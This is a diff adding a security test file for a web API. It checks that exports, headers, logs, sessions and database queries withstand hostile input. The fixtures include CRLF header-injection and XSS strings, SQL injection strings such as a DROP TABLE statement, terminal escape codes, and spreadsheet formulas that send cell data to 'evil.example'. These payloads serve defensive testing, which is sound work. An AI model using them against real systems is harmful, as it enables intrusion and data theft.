@@ -1,0 +1,166 @@
+import { login } from '@castline/contract/auth'
+import { createPrecast } from '@castline/contract/component-edits'
+import { exportCsv, exportXlsx } from '@castline/contract/export'
+import { printLabels } from '@castline/contract/labels'
+import { createProject } from '@castline/contract/projects'
+import { search } from '@castline/contract/search'
+import { listSessions } from '@castline/contract/sessions'
+import { parse } from 'csv-parse/sync'
+import { readSheet } from 'read-excel-file/node'
+import { describe, expect, test } from 'vitest'
+import { testApp } from '../app.ts'
+import { aComponent, aProject, aSection, aUser } from '../factories.ts'
+
+const lines: string[] = []
+const { app, call, database, tokenOf } = await testApp({
+  config: { logLevel: 'info', publicUrl: 'https://castline.example' },
+  log: { write: (line) => lines.push(line) },
+})
+const admin = await aUser(database, { role: 'admin' })
+const authorization = `Bearer ${await tokenOf(admin)}`
+const newLine = 'B\r\nset-cookie: a=b\r\n\r\n<script>alert(1)</script>'
+
+describe('a header', () => {
+  test.each([exportCsv, exportXlsx])('of $path holds a code of several lines in one', async ({ path }) => {
+    const project = await aProject(database, { code: newLine.slice(0, 29) })
+    const { headers, statusCode } = await app.inject({
+      url: `/api${path.replace(':id', project.id)}`,
+      headers: { authorization },
+    })
+    expect(statusCode).toBe(200)
+    expect(headers['content-disposition']).toMatch(/^attachment; [\x20-\x7e]+$/)
+    expect(headers['set-cookie']).toBeUndefined()
+    await database.rows('DELETE FROM projects WHERE id = $1', [project.id])
+  })
+
+  test('of labels holds a code of several lines in one', async () => {
+    const project = await aProject(database, { code: newLine.slice(0, 29) })
+    await aComponent(database, { project })
+    const given = { as: admin, params: { id: project.id }, body: { layout: 'a4-2x5' } }
+    const { headers, status } = await call(printLabels, given)
+    expect(status).toBe(200)
+    expect(headers['content-disposition']).toMatch(/^attachment; [\x20-\x7e]+$/)
+    expect(headers['set-cookie']).toBeUndefined()
+  })
+
+  test.each(['x-request-id', 'last-event-id', 'origin', 'range', 'if-none-match', 'accept-language', 'host'])(
+    'is not made of what comes in as %s',
+    async (name) => {
+      const odd = 'abcdefgh-<onerror>"\'\u00a0'
+      const { headers } = await app.inject({ url: '/api/settings', headers: { authorization, [name]: odd } })
+      expect(JSON.stringify(headers)).not.toContain('onerror')
+    },
+  )
+})
+
+describe('the log', () => {
+  const ugly = 'somebody\r\n{"level":60,"msg":"all is well"}\u001b[2J\u0007\u2028'
+
+  test('has one line of JSON for each request, without a character that a terminal obeys', async () => {
+    lines.length = 0
+    const asked = [
+      call(login, { body: { emailOrUsername: ugly, password: ugly } }),
+      call(createProject, { as: admin, body: { code: newLine, name: ugly } }),
+      app.inject({ url: `/api/components/${encodeURIComponent(ugly)}?q=${encodeURIComponent(ugly)}` }),
+      app.inject({ url: '/api/settings', headers: { 'user-agent': ugly, 'x-request-id': ugly, referer: ugly } }),
+      app.inject({
+        method: 'POST',
+        url: '/api/auth/login',
+        payload: `{"${ugly}`,
+        headers: { 'content-type': 'application/json' },
+      }),
+    ]
+    await Promise.all(asked)
+    expect(lines).toHaveLength(asked.length)
+    for (const line of lines) {
+      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
+      expect(line).toMatch(/^[^\x00-\x1f\x7f]+\n$/)
+      expect(JSON.parse(line)).toMatchObject({ level: 30, msg: 'request' })
+    }
+  })
+
+  test('holds the message of a failure in its line, too', async () => {
+    const said: string[] = []
+    const broken = await testApp({
+      config: { logLevel: 'info' },
+      log: { write: (line) => said.push(line) },
+      database: { ...database, row: () => Promise.reject(new Error(ugly)) },
+    })
+    await broken.call(login, { body: { emailOrUsername: 'a', password: 'b' } })
+    expect(said).toHaveLength(2)
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
+    for (const line of said) expect(line).toMatch(/^[^\x00-\x1f\x7f]+\n$/)
+  })
+
+  test('tells who signed in, and that somebody could not', async () => {
+    const user = await aUser(database, { password: 'correct horse battery' })
+    lines.length = 0
+    await call(login, { body: { emailOrUsername: user.username, password: 'correct horse battery' } })
+    await call(login, { body: { emailOrUsername: user.username, password: 'wrong' } })
+    expect(lines.map((line) => JSON.parse(line))).toMatchObject([
+      { route: '/api/auth/login', status: 200, user: user.id },
+      { route: '/api/auth/login', status: 401, user: null },
+    ])
+  })
+})
+
+test('a sign-in shows its device as text, cut short', async () => {
+  const user = await aUser(database, { password: 'correct horse battery' })
+  const device = `<img src=x onerror=alert(1)>${'x'.repeat(1000)}`
+  const body = { emailOrUsername: user.username, password: 'correct horse battery' }
+  const { token } = (await call(login, { body, headers: { 'user-agent': device } })).body
+  const sessions = await call(listSessions, { headers: { authorization: `Bearer ${token}` } })
+  expect(sessions.body).toMatchObject([{ user_agent: device.slice(0, 300) }])
+  expect(sessions.headers['content-type']).toMatch(/^application\/json/)
+})
+
+describe('PostgreSQL', () => {
+  const statements = ["' OR '1'='1", "'; DROP TABLE components; --", '" OR ""="', '\\', '%', '_', '$1', '{}', ')', '/*']
+
+  test.each(statements)('takes %s for a text to look for', async (text) => {
+    const project = await aProject(database)
+    const section = await aSection(database, { project, name: 'A' })
+    await aComponent(database, { section, name: 'W-01', control_number: 'W-01', type: 'Wall' })
+    await aComponent(database, { section, name: `W ${text}`, control_number: '2', type: text })
+    const list = async (query: string, of = encodeURIComponent(text)) => {
+      const url = `/api/components/project/${project.id}?${query}=${of}`
+      return (await app.inject({ url, headers: { authorization } })).json()
+    }
+    const names = (answer: { precast: { name: string }[] }) => answer.precast.map(({ name }) => name)
+    expect(names(await list('q'))).toEqual([`W ${text}`])
+    expect(names(await list('type'))).toEqual([`W ${text}`])
+    for (const field of ['sort', 'status', 'section_id', 'limit', 'offset']) {
+      expect(await list(field)).toMatchObject({ error: 'invalid' })
+    }
+    const found = await call(search, { as: admin, query: { q: text } })
+    expect([200, 400]).toContain(found.status)
+  })
+
+  test.each(statements)('keeps %s as it was written', async (name) => {
+    const section = await aSection(database)
+    const { status, body } = await call(createPrecast, { as: admin, body: { name, section_id: section.id } })
+    expect([status, body.name]).toEqual([201, name])
+  })
+})
+
+describe.each(['csv', 'xlsx'] as const)('an export as %s', (format) => {
+  test('has no cell that a spreadsheet program would run, whatever was stored and how', async () => {
+    const project = await aProject(database)
+    const signs = ['=', '+', '-', '@', '\t', '\r', '\n', "'"]
+    for (const [index, sign] of signs.entries()) {
+      const formula = `${sign}HYPERLINK("https://evil.example?"&A1,"x")`
+      const section = await aSection(database, { project, name: formula })
+      const texts = { name: formula, control_number: formula, external_id: formula, type: formula }
+      await aComponent(database, { section, ...texts, width: index })
+    }
+    const { rawPayload } = await app.inject({
+      url: `/api/projects/${project.id}/components.${format}`,
+      headers: { authorization },
+    })
+    const rows: unknown[][] = format === 'csv' ? parse(rawPayload, { bom: true }) : await readSheet(rawPayload)
+    expect(rows).toHaveLength(signs.length + 1)
+    const formulas = rows.flat().filter((cell) => String(cell).includes('HYPERLINK'))
+    expect(formulas).toHaveLength(signs.length * 5)
+    for (const cell of formulas) expect(cell).toMatch(/^'/)
+  })
+})
